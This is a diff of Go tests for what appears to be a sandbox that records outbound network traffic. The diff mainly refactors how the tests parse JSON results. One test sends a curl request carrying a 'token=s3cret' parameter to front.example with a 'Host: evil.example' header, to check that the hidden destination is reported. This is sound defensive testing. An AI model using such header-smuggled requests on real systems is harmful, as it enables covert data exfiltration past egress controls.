@@ -21,14 +21,8 @@ func TestRedteam26HostHeaderSiteIsNamed(t *testing.T) {
 	for _, r := range runners(t) {
 		t.Run(r.name, func(t *testing.T) {
 			dir := workTree(t)
-			res := vigiles(t, r, dir, nil, "--egress", "record", "--", "curl", "-s", "-m", "5",
+			got := vigilesRaw(t, r, dir, "--egress", "record", "--", "curl", "-s", "-m", "5",
 				"-H", "Host: evil.example", "http://front.example/p?token=s3cret")
-			var got struct {
-				Egress []egressEntry `json:"egress"`
-			}
-			if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
-				t.Fatal(err)
-			}
 			want := map[string]string{
 				"front.example 80": "GET /p",
 				"evil.example 80":  "GET /p (asked for by its Host header of a request sent to front.example port 80)",
@@ -97,9 +91,7 @@ func TestRedteam26MulticastGroupsAreNamed(t *testing.T) {
 				if !strings.Contains(res.Stdout, "joined") {
 					t.Fatalf("the joins failed: stdout %q, stderr %q", res.Stdout, res.Stderr)
 				}
-				var got struct {
-					Egress []egressEntry `json:"egress"`
-				}
+				var got egressResult
 				if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
 					t.Fatal(err)
 				}
@@ -166,9 +158,7 @@ func TestRedteam26LeftoverAttemptsAreRecorded(t *testing.T) {
 				args := append([]string{"--linger", "5s", "--egress"}, mode...)
 				args = append(args, "--", "sh", "-c", "python3 -c '"+leftoverAttempts+"' & exit 0")
 				res := vigiles(t, r, dir, nil, args...)
-				var got struct {
-					Egress []egressEntry `json:"egress"`
-				}
+				var got egressResult
 				if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
 					t.Fatal(err)
 				}
